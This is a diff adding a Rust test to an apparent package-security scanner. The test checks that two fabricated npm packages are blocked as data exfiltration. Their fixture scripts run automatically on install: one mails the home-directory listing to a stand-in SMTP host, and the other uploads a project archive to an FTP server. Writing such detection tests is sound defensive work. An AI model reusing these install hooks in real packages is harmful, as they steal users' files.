@@ -1210,3 +1210,26 @@ fn a_form_skimmer_is_blocked_and_a_form_library_is_not() {
         report(&analysis)
     );
 }
+
+/// Mail and FTP are channels out like HTTP: an install script that mails or
+/// uploads what it finds in the home directory or the project is stopped.
+#[test]
+fn mail_and_ftp_uploads_at_install_are_channels_out() {
+    let mailer = airlock_test::PackageBuilder::new("mail-home", "1.0.0")
+        .script("postinstall", "node install.js")
+        .file(
+            "install.js",
+            "const nodemailer = require('nodemailer');\nconst os = require('os');\nconst files = require('fs').readdirSync(os.homedir());\nconst t = nodemailer.createTransport({ host: 'smtp.collector.example.invalid', port: 2525 });\nt.sendMail({ from: 'a@b.invalid', to: 'c@d.invalid', text: files.join('\\n') });\n",
+        )
+        .build();
+    check_blocked(&mailer, &[Code::DataExfiltration]);
+
+    let ftp = airlock_test::PackageBuilder::new("ftp-project", "1.0.0")
+        .script("preinstall", "node index.js")
+        .file(
+            "index.js",
+            "const Client = require('ftp');\nconst path = require('path');\nconst client = new Client();\nclient.on('ready', () => client.put(path.join(process.cwd(), 'dump.zip'), '/up/dump.zip', () => client.end()));\nclient.connect({ host: '198.51.100.20', port: 21 });\n",
+        )
+        .build();
+    check_blocked(&ftp, &[Code::DataExfiltration]);
+}
